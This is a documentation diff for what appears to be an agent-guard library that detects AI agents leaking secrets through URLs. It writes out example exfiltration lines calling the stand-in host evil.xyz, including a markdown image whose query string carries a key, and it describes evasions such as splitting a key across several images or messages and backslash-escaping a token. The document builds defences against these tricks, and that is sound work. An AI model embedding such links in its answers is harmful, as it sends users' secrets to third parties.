@@ -29,7 +29,9 @@ without the pieces the requests repeat (the template: ``https://evil.xyz/?p=<hal
 
 **Links carry to their hosts**: a URL written in a call or message whose destination may receive a finding (the
 user's answer) is read again as sent to ``third_party``: a markdown image or a link preview is fetched with no
-click, so ``![x](https://evil.xyz/p.png?k=<key>)`` in an answer sends the key to ``evil.xyz``.
+click, so ``![x](https://evil.xyz/p.png?k=<key>)`` in an answer sends the key to ``evil.xyz``. The links of one message
+are read joined, and across the run's messages and calls (a key cut into the images of one answer, or of several);
+a text with a backslash is read as a Markdown renderer shows it too (``k=ghp\\_...``: :func:`.links.rendered`).
 
 **Known secrets** (:mod:`agentguard.policies.secret_fragments`): the guard also knows secrets by value, the
 ``known_secrets`` given (or read from the environment variables ``known_secret_env`` names: a variable that is not
